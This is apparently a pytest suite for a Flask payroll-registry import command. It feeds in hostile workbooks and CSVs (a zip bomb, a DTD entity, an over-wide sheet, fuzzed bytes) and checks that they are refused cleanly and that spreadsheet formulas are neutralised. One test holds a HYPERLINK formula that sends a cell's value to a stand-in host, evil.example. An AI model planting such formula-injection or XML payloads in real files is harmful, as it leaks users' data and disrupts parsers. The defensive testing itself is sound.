"""Hostile and careless files through `disburse import`: nobody goes missing silently, every unusable input is an
exit 2 with a message in both languages and no traceback, and nothing we write runs as a formula."""

from __future__ import annotations

import threading
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from flask import Flask
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy import text

from disburse.extensions import db
from tests.fuzz_files import CELL, WORKBOOK_BYTES, workbook_parts
from tests.registry.test_import_support import (
    COLUMNS,
    count,
    employee_row,
    employer_row,
    read_errors,
    seed_employer,
    write_csv,
)

SHEET = "xl/worksheets/sheet1.xml"


def _cli(app: Flask, *args: str):
    """The import command as a user runs it; an exception escaping it would be a traceback on their terminal."""
    result = app.test_cli_runner().invoke(args=["import", *args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    return result


def _employers_xlsx(path: Path, rows: list[dict[str, str]], *, extra_sheet: bool = False) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(list(COLUMNS["employers"]))
    for row in rows:
        sheet.append([row[c] for c in COLUMNS["employers"]])
    if extra_sheet:
        workbook.create_sheet("Bổ sung").append(["unit_code", "IM9999999"])
    workbook.save(path)
    return path


def _rewrite(path: Path, member: str, change: Callable[[bytes], bytes]) -> Path:
    with zipfile.ZipFile(path) as source:
        parts = {info.filename: source.read(info.filename) for info in source.infolist()}
    parts[member] = change(parts.get(member, b""))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


def _both_languages(result) -> None:
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert "Không" in result.output or "không" in result.output, result.output
    assert "cannot" in result.output or "not" in result.output, result.output


def _units(rows: list[dict[str, str]]) -> int:
    return count("SELECT count(*) FROM employers WHERE unit_code = ANY(:u)", u=[r["unit_code"] for r in rows])


def test_a_workbook_that_understates_its_rows_is_imported_whole(app, db_session, tmp_path):
    rows = [employer_row() for _ in range(5)]
    path = _rewrite(
        _employers_xlsx(tmp_path / "u.xlsx", rows), SHEET, lambda xml: xml.replace(b'ref="A1:J6"', b'ref="A1:J2"')
    )
    result = _cli(app, "employers", str(path))
    assert result.exit_code == 0, result.output
    assert _units(rows) == 5


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("bomb", lambda path: _rewrite(path, "xl/media/pad.bin", lambda _: bytes(64 << 20))),
        ("dtd", lambda path: _rewrite(path, SHEET, lambda xml: b'<!DOCTYPE w [<!ENTITY e "eeee">]>' + xml)),
        ("not a zip", lambda path: path.write_bytes(b"PK\x03\x04 not really a workbook") or path),
        (
            "too wide",
            lambda path: _rewrite(
                path,
                SHEET,
                lambda xml: xml.replace(b"</sheetData>", b'<row r="9"><c r="IW9" t="n"><v>1</v></c></row></sheetData>'),
            ),
        ),
    ],
)
def test_a_hostile_workbook_is_refused_quickly_and_changes_nothing(app, db_session, tmp_path, name, change):
    rows = [employer_row() for _ in range(3)]
    path = change(_employers_xlsx(tmp_path / f"{name.replace(' ', '_')}.xlsx", rows))
    started = time.monotonic()
    result = _cli(app, "employers", str(path))
    assert time.monotonic() - started < 5
    _both_languages(result)
    assert _units(rows) == 0


def test_other_sheets_with_data_are_reported(app, db_session, tmp_path):
    rows = [employer_row()]
    result = _cli(app, "employers", str(_employers_xlsx(tmp_path / "u.xlsx", rows, extra_sheet=True)))
    assert result.exit_code == 0
    assert "'Bổ sung'" in result.output and "were not read" in result.output
    assert _units(rows) == 1


def test_cr_only_line_endings_are_lines(app, db_session, tmp_path):
    rows = [employer_row() for _ in range(3)]
    path = write_csv(tmp_path / "mac.csv", "employers", rows)
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"\r"))
    result = _cli(app, "employers", str(path))
    assert result.exit_code == 0, result.output
    assert _units(rows) == 3


def test_too_many_columns_is_an_exit_2(app, db_session, tmp_path):
    rows = [employer_row()]
    extra = [f"extra_{i}" for i in range(2006)]
    path = write_csv(tmp_path / "wide.csv", "employers", rows, columns=[*COLUMNS["employers"], *extra])
    result = _cli(app, "employers", str(path))
    _both_languages(result)
    assert "2,016 columns" in result.output


def test_the_errors_path_is_checked_before_any_work(app, db_session, tmp_path):
    rows = [employer_row(), employer_row(sector="bank")]
    path = write_csv(tmp_path / "u.csv", "employers", rows)
    blocked = tmp_path / "a-file"
    blocked.write_text("", encoding="utf-8")
    for errors in (blocked / "errors.csv", path, tmp_path):
        result = _cli(app, "employers", str(path), "--errors", str(errors))
        _both_languages(result)
        assert _units(rows) == 0
    assert path.read_text(encoding="utf-8").startswith("unit_code")  # the input was not overwritten


def test_a_missing_file_is_an_exit_2_in_both_languages(app, db_session, tmp_path):
    _both_languages(_cli(app, "employers", str(tmp_path / "nothing-here.csv")))


def test_formulas_are_neutralised_in_the_errors_file_and_stored_as_received(app, db_session, tmp_path):
    unit = seed_employer(tmp_path)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    rows = [employee_row(unit, full_name="@Nguyễn Văn A", date_of_birth=formula)]
    errors = tmp_path / "errors.csv"
    result = _cli(app, "employees", str(write_csv(tmp_path / "e.csv", "employees", rows)), "--errors", str(errors))
    assert result.exit_code == 1
    (reported,) = read_errors(errors)
    assert reported["column"] == "date_of_birth" and reported["value"] == "'" + formula

    good = [employee_row(unit, full_name="=1+1")]
    assert _cli(app, "employees", str(write_csv(tmp_path / "g.csv", "employees", good))).exit_code == 0
    stored = db.session.execute(text("SELECT full_name FROM employees WHERE si_code = :s"), {"s": good[0]["si_code"]})
    assert stored.scalar_one() == "=1+1"


def test_a_second_import_of_the_same_kind_says_it_waits(app, db_session, tmp_path):
    rows = [employer_row()]
    path = write_csv(tmp_path / "u.csv", "employers", rows)
    holder = db.engine.connect()
    holder.execute(text("SELECT pg_advisory_lock(hashtext('disburse.import.employers'))"))

    def release() -> None:
        time.sleep(1.0)
        holder.execute(text("SELECT pg_advisory_unlock(hashtext('disburse.import.employers'))"))
        holder.close()

    releaser = threading.Thread(target=release)
    releaser.start()
    try:
        result = _cli(app, "employers", str(path))
    finally:
        releaser.join()
    assert result.exit_code == 0
    assert "Waiting for another import of employers to finish" in result.output
    assert "Đang chờ một lượt nhập đơn vị khác kết thúc" in result.output
    assert _units(rows) == 1


# ------------------------------------------------------------------------------------------------------ fuzz


def _employers_state() -> tuple[int, str]:
    """Every employer row, as a fingerprint: an exit 2 must leave it exactly as it was."""
    row = db.session.execute(
        text("SELECT count(*), coalesce(md5(string_agg(e::text, '|' ORDER BY e.unit_code)), '') FROM employers e")
    ).one()
    return int(row[0]), str(row[1])


def _fuzz_import(app: Flask, path: Path) -> None:
    """Import ``path`` with ``--errors``: exit 0, 1 or 2 and never a traceback; exit 1 leaves an errors file with at
    least one row, exit 2 a message in both languages and every employer row as it was."""
    errors = path.with_name("errors.csv")
    errors.unlink(missing_ok=True)
    before = _employers_state()
    result = _cli(app, "employers", str(path), "--errors", str(errors))
    assert result.exit_code in (0, 1, 2), result.output
    if result.exit_code == 1:
        assert read_errors(errors), "exit 1 without a refused row in the errors file"
    if result.exit_code == 2:
        assert "Không thể nhập tệp" in result.output and "cannot be imported: " in result.output, result.output
        assert _employers_state() == before
        assert not errors.exists() or not read_errors(errors)


_FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@_FUZZ
@given(data=st.binary(max_size=400))
def test_any_bytes_as_a_csv_are_an_exit_0_1_or_2(app, db_session, tmp_path, data):
    path = tmp_path / "fuzz.csv"
    header = ",".join(COLUMNS["employers"]).encode()
    path.write_bytes(header + b"\n" + data if data[:1] != b"!" else data)
    _fuzz_import(app, path)


def _employers_workbook_parts() -> dict[str, bytes]:
    """A real employers workbook (two rows and a second sheet), to be broken by :data:`WORKBOOK_BYTES`."""
    workbook = openpyxl.Workbook()
    workbook.active.append(list(COLUMNS["employers"]))
    for n in range(2):
        row = employer_row(unit_code=f"IMFZ{n:05d}")
        workbook.active.append([row[c] for c in COLUMNS["employers"]])
    workbook.create_sheet("Bổ sung").append(["unit_code", "IM9999999"])
    return workbook_parts(workbook)


_PARTS = _employers_workbook_parts()


@_FUZZ
@given(recipe=WORKBOOK_BYTES)
def test_any_bytes_as_a_workbook_are_an_exit_0_1_or_2(app, db_session, tmp_path, recipe):
    path = tmp_path / "fuzz.xlsx"
    path.write_bytes(recipe(_PARTS))
    _fuzz_import(app, path)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cells=st.lists(st.lists(CELL, min_size=0, max_size=12), max_size=6))
def test_any_cells_in_a_workbook_are_an_exit_0_1_or_2(app, db_session, tmp_path, cells):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(list(COLUMNS["employers"]))
    for row in cells:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", c) if isinstance(c, str) else c for c in row])
    path = tmp_path / "fuzz.xlsx"
    workbook.save(path)
    _fuzz_import(app, path)
